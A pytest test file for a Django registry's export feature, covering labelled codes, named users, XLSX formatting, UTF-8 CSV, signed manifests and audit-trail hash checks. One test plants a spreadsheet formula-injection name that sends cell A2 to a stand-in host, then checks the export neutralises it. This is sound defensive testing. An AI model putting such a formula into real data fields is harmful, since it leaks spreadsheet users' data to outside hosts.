"""Exports people can read and anyone can check (SPEC section 8): labels beside codes, names
beside usernames, real dates, a styled frozen header with filters, UTF-8 that Excel opens, and a
manifest signed with the installation's key in every format."""

import codecs
import csv
import hashlib
import io
import json
from datetime import UTC, date, datetime, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from audit import verify
from audit.models import AuditEvent
from audit.services import audit_record
from audit.signing import manifest_signature_valid
from oversight import exports
from oversight.exports import AUDIT_SHEET, REGISTRY_COLUMNS, REGISTRY_SHEET
from registry.models import Deployment

from .shared_world import entry_world

one_entry = pytest.mark.shared_world(build=entry_world)

URL = "/api/v1/registry/export/"
AUDIT_EXPORT_URL = "/api/v1/audit-events/export/"
User = get_user_model()


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _json_row(response) -> dict:
    (row,) = json.loads(_body(response))["rows"]
    return row


def _csv_row(response) -> dict:
    (row,) = csv.DictReader(io.StringIO(_body(response).decode("utf-8-sig")))
    return row


def _name(username: str, first_name: str, last_name: str) -> None:
    User.objects.filter(username=username).update(first_name=first_name, last_name=last_name)


def _cell(sheet, key: str, row: int = 2):
    return sheet.cell(row=row, column=REGISTRY_COLUMNS.index(key) + 1)


# --- Labels beside codes --------------------------------------------------------------------


@one_entry
def test_each_coded_value_has_its_label_beside_the_code(api, auditor, entry):
    Deployment.objects.filter(pk=entry.pk).update(channels=["voice_ivr", "email"])

    row = _json_row(api(auditor).get(URL, {"format": "json"}))

    assert (row["channels"], row["channels_label"]) == (
        ["voice_ivr", "email"],
        ["Voice / IVR", "E-mail"],
    )
    assert (row["markets"], row["markets_label"]) == (["GB"], ["United Kingdom"])
    assert (row["stage"], row["stage_label"]) == ("pilot", "Pilot")
    assert (row["risk_tier"], row["risk_tier_label"]) == ("limited", "Limited")
    assert (row["ai_act_class"], row["ai_act_class_label"]) == ("minimal", "Minimal risk")
    assert row["operator_role"] == "deployer"
    assert row["operator_role_label"].startswith("Deployer")
    assert row["data_categories_label"] == [
        "Contact details",
        "Behavioural (clicks, browsing, usage)",
    ]
    assert (row["requested_stage"], row["requested_stage_label"]) == ("", "")


@one_entry
def test_the_json_keys_stay_the_stable_codes_in_column_order(api, auditor, entry):
    row = _json_row(api(auditor).get(URL, {"format": "json"}))
    assert tuple(row) == REGISTRY_COLUMNS
    assert {"stage", "channels", "business_owner", "approvers"} <= set(row)


@one_entry
def test_a_code_without_a_label_shows_as_it_was_entered(api, auditor, entry):
    Deployment.objects.filter(pk=entry.pk).update(markets=["GB", "XX"])
    row = _csv_row(api(auditor).get(URL, {"format": "csv"}))
    assert (row["markets"], row["markets_label"]) == ("GB; XX", "United Kingdom; XX")


@one_entry
def test_the_registry_as_of_a_day_is_labelled_and_named_too(api, auditor, entry, owner):
    _name(owner.username, "Olivia", "Owen")
    row = _json_row(
        api(auditor).get(URL, {"format": "json", "as_of": timezone.localdate().isoformat()})
    )
    assert (row["stage"], row["stage_label"]) == ("pilot", "Pilot")
    assert row["channels_label"] == ["E-mail"]
    assert (row["business_owner"], row["business_owner_name"]) == ("olivia.owner", "Olivia Owen")


# --- Names beside usernames -----------------------------------------------------------------


@one_entry
def test_people_are_named_beside_their_usernames(api, auditor, entry, owner, alice):
    _name(owner.username, "Olivia", "Owen")
    _name("pia.privacy", "Pia", "Park")

    row = _json_row(api(auditor).get(URL, {"format": "json"}))

    assert (row["business_owner"], row["business_owner_name"]) == ("olivia.owner", "Olivia Owen")
    # Someone whose account has no name is shown by username, never as an empty cell.
    assert (row["technical_owner"], row["technical_owner_name"]) == ("alice", "alice")
    assert "privacy: pia.privacy" in row["approvers"]
    labels = row["approvers_label"].split("; ")
    assert "Privacy: Pia Park (pia.privacy)" in labels
    assert "Legal: leo.legal" in labels  # no name: the username alone, not "leo.legal (leo.legal)"
    assert "Data science: dana.data" in labels


@one_entry
def test_names_with_accents_survive_the_csv_and_excel_reads_it_as_utf8(api, auditor, entry, owner):
    _name(owner.username, "Zoë", "Müller")

    raw = _body(api(auditor).get(URL, {"format": "csv"}))

    assert raw.startswith(codecs.BOM_UTF8)
    assert raw.count(codecs.BOM_UTF8) == 1  # once, before the header, not before each chunk
    text = raw[len(codecs.BOM_UTF8) :].decode("utf-8")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == list(REGISTRY_COLUMNS)
    (row,) = [dict(zip(header, values, strict=True)) for values in rows]
    assert (row["reference"], row["business_owner_name"]) == (entry.reference, "Zoë Müller")


@one_entry
def test_the_bom_does_not_change_the_manifest_hash(api, auditor, entry):
    """The sha256 covers the rows as canonical JSON lines, not the file's bytes."""
    csv_response = api(auditor).get(URL, {"format": "csv"})
    assert _body(csv_response).startswith(codecs.BOM_UTF8)
    rows = json.loads(_body(api(auditor).get(URL, {"format": "json"})))["rows"]
    lines = b"".join(
        (json.dumps(r, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n").encode()
        for r in rows
    )
    assert (
        json.loads(csv_response["X-Export-Manifest"])["sha256"] == hashlib.sha256(lines).hexdigest()
    )


@one_entry
def test_a_name_that_would_start_a_formula_is_never_one(api, auditor, entry, owner):
    _name(owner.username, '=HYPERLINK("https://example.invalid/?leak="&A2,"x")', "")
    planted = '=HYPERLINK("https://example.invalid/?leak="&A2,"x")'

    csv_row = _csv_row(api(auditor).get(URL, {"format": "csv"}))
    sheet = load_workbook(io.BytesIO(_body(api(auditor).get(URL, {"format": "xlsx"})))).active
    cell = _cell(sheet, "business_owner_name")

    assert csv_row["business_owner_name"] == "'" + planted
    assert (cell.data_type, cell.value) == ("s", planted)


# --- XLSX: dates, header, filters, widths ---------------------------------------------------


@one_entry
def test_xlsx_dates_are_date_cells(api, auditor, entry):
    go_live = date(2026, 3, 2)
    Deployment.objects.filter(pk=entry.pk).update(go_live_date=go_live)
    entry.refresh_from_db()

    sheet = load_workbook(io.BytesIO(_body(api(auditor).get(URL, {"format": "xlsx"})))).active

    expected = {
        "go_live_date": go_live,
        "last_review_date": entry.last_review_date,
        "next_review_due": entry.next_review_due,
        "approval_date": timezone.localdate(entry.approval.decided_at),
    }
    cells = {key: _cell(sheet, key) for key in expected}
    assert all(cell.is_date for cell in cells.values())
    assert {key: cell.value.date() for key, cell in cells.items()} == expected
    assert _cell(sheet, "reference").is_date is False


@one_entry
def test_an_empty_date_is_an_empty_cell(api, auditor, entry):
    sheet = load_workbook(io.BytesIO(_body(api(auditor).get(URL, {"format": "xlsx"})))).active
    assert _cell(sheet, "go_live_date").value is None


def _column_width(sheet, index: int) -> int:
    """The width set for a column, in characters: the file may give one width to a range of
    columns, and adds the font's padding (a fraction of a character)."""
    for dimension in sheet.column_dimensions.values():
        if dimension.min <= index <= dimension.max:
            return int(dimension.width)
    raise AssertionError(f"column {index} has no width")


@one_entry
def test_the_xlsx_header_is_titled_bold_frozen_and_filtered(api, auditor, entry):
    sheet = load_workbook(io.BytesIO(_body(api(auditor).get(URL, {"format": "xlsx"})))).active
    header = list(sheet[1])
    last = get_column_letter(len(REGISTRY_SHEET))

    assert sheet.title == "Registry"
    assert [cell.value for cell in header] == [column.title for column in REGISTRY_SHEET]
    assert "Stage" in [c.value for c in header] and "Stage (code)" in [c.value for c in header]
    assert all(cell.font.b for cell in header)
    assert {cell.fill.fgColor.rgb[-6:] for cell in header} == {exports.HEADER_FILL}  # any alpha
    assert not _cell(sheet, "reference").font.b  # only the header
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{last}2"  # the header and the one data row
    widths = {
        column.key: _column_width(sheet, index)
        for index, column in enumerate(REGISTRY_SHEET, start=1)
    }
    assert widths == {column.key: column.width for column in REGISTRY_SHEET}
    assert widths["title"] > widths["reference"]


# --- Signed manifests -----------------------------------------------------------------------


@one_entry
@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_every_format_sends_a_signature_that_verifies_its_manifest(api, auditor, entry, fmt):
    response = api(auditor).get(URL, {"format": fmt})
    _body(response)
    manifest = json.loads(response["X-Export-Manifest"])
    signature = response["X-Export-Signature"]

    assert manifest_signature_valid(manifest, signature)
    # The signed manifest is the one the export's audit event recorded.
    event = AuditEvent.objects.filter(action="exported").latest("seq")
    assert event.changes["manifest"][1] == manifest


@one_entry
@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("rows", 2),
        ("sha256", "0" * 64),
        ("filters", {"stage": "production"}),
        ("generated_by", "someone.else"),
        ("audit_chain_head", {"seq": 1, "hash": "0" * 64}),
    ],
)
def test_a_manifest_changed_after_signing_fails_the_check(api, auditor, entry, key, value):
    response = api(auditor).get(URL, {"format": "csv"})
    manifest = json.loads(response["X-Export-Manifest"])

    tampered = {**manifest, key: value}

    assert not manifest_signature_valid(tampered, response["X-Export-Signature"])


@one_entry
def test_a_signature_does_not_vouch_for_another_exports_manifest(api, auditor, entry):
    first = api(auditor).get(URL, {"format": "csv"})
    second = api(auditor).get(URL, {"format": "csv", "stage": "pilot"})
    assert not manifest_signature_valid(
        json.loads(second["X-Export-Manifest"]), first["X-Export-Signature"]
    )
    assert not manifest_signature_valid(json.loads(first["X-Export-Manifest"]), "not base64!")


@one_entry
def test_the_json_body_carries_the_manifest_and_its_signature(api, auditor, entry):
    response = api(auditor).get(URL, {"format": "json"})
    body = json.loads(_body(response))
    assert list(body) == ["manifest", "signature", "rows"]
    assert body["signature"] == response["X-Export-Signature"]
    assert manifest_signature_valid(body["manifest"], body["signature"])


@one_entry
def test_the_xlsx_manifest_sheet_holds_the_signed_manifest(api, auditor, entry):
    response = api(auditor).get(URL, {"format": "xlsx", "stage": "pilot"})
    workbook = load_workbook(io.BytesIO(_body(response)))
    sent = json.loads(response["X-Export-Manifest"])

    assert workbook.sheetnames == ["Registry", "Manifest"]
    sheet = workbook["Manifest"]
    (header, *rows) = sheet.iter_rows(values_only=True)
    fields = dict(rows)
    signature = fields.pop("signature")
    manifest = {
        key: json.loads(value) if isinstance(sent[key], dict | list) else value
        for key, value in fields.items()
    }

    assert header == ("Field", "Value") and sheet["A1"].font.b and sheet.freeze_panes == "A2"
    assert manifest == sent and manifest["rows"] == 1 and manifest["filters"] == {"stage": "pilot"}
    assert signature == response["X-Export-Signature"]
    assert manifest_signature_valid(manifest, signature)
    assert not manifest_signature_valid({**manifest, "rows": 0}, signature)


@one_entry
def test_the_command_writes_the_signed_manifest_beside_the_file(entry, tmp_path):
    output = tmp_path / "registry.csv"
    out = io.StringIO()

    call_command("export_registry", "--format", "csv", "--output", str(output), stdout=out)

    signed = json.loads((tmp_path / "registry.csv.manifest.json").read_text(encoding="utf-8"))
    assert signed["manifest"] == json.loads(out.getvalue())
    assert signed["manifest"]["rows"] == 1
    assert manifest_signature_valid(signed["manifest"], signed["signature"])
    event = AuditEvent.objects.filter(action="exported").latest("seq")
    assert event.changes["manifest"][1] == signed["manifest"]
    assert output.read_bytes().startswith(codecs.BOM_UTF8)


# --- The audit trail ------------------------------------------------------------------------


def test_each_audit_row_carries_the_actor_id_and_rechecks_its_own_hash(api, auditor, alice):
    _name("alice", "Alice", "Adams")
    audit_record(actor=alice, action="created", object_type="test", changes={"x": [None, 1]})
    audit_record(actor=None, action="login_locked_out", object_ref="nobody", changes={})

    response = api(auditor).get(AUDIT_EXPORT_URL, {"format": "json"})
    body = json.loads(_body(response))
    rows = {row["action"]: row for row in body["rows"]}

    assert list(rows["created"]) == [column.key for column in AUDIT_SHEET]
    assert (rows["created"]["actor"], rows["created"]["actor_username"]) == (alice.pk, "alice")
    assert rows["created"]["actor_name"] == "Alice Adams"
    locked = rows["login_locked_out"]
    assert (locked["actor"], locked["actor_username"], locked["actor_name"]) == (None, "", "")
    # Every hashed field is there as the hash has it: each row re-checks on its own.
    assert all(verify.event_hash(row["prev_hash"], row) == row["hash"] for row in body["rows"])
    forged = {**rows["created"], "actor": alice.pk + 1}
    assert verify.event_hash(forged["prev_hash"], forged) != forged["hash"]
    assert manifest_signature_valid(body["manifest"], response["X-Export-Signature"])


def test_the_audit_trail_csv_has_a_bom_and_the_actor_columns(api, auditor, alice):
    audit_record(actor=alice, action="created", object_type="test")
    response = api(auditor).get(AUDIT_EXPORT_URL, {"format": "csv"})
    raw = _body(response)
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    (row,) = [r for r in rows if r["action"] == "created"]
    assert (row["actor"], row["actor_username"], row["actor_name"]) == (
        str(alice.pk),
        "alice",
        "alice",
    )
    assert manifest_signature_valid(
        json.loads(response["X-Export-Manifest"]), response["X-Export-Signature"]
    )


def test_the_audit_trail_xlsx_has_utc_datetime_cells(auditor, alice):
    event = audit_record(actor=alice, action="created", object_type="test")

    export = exports.audit_export(
        user=auditor, fmt="xlsx", events=AuditEvent.objects.filter(pk=event.pk), filters={}
    )
    with export.file:
        workbook = load_workbook(export.file)

    sheet = workbook.active
    assert workbook.sheetnames == ["Audit trail", "Manifest"]
    assert [c.value for c in sheet[1]] == [column.title for column in AUDIT_SHEET]
    at = sheet.cell(row=2, column=[c.key for c in AUDIT_SHEET].index("at") + 1)
    assert sheet.cell(row=1, column=at.column).value == "At (UTC)"
    assert at.is_date and isinstance(at.value, datetime) and at.value.tzinfo is None
    # Excel keeps milliseconds; the cell is the event's instant in UTC.
    assert abs(at.value - event.at.astimezone(UTC).replace(tzinfo=None)) < timedelta(milliseconds=1)
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(AUDIT_SHEET))}2"
    assert manifest_signature_valid(export.manifest, export.signature)
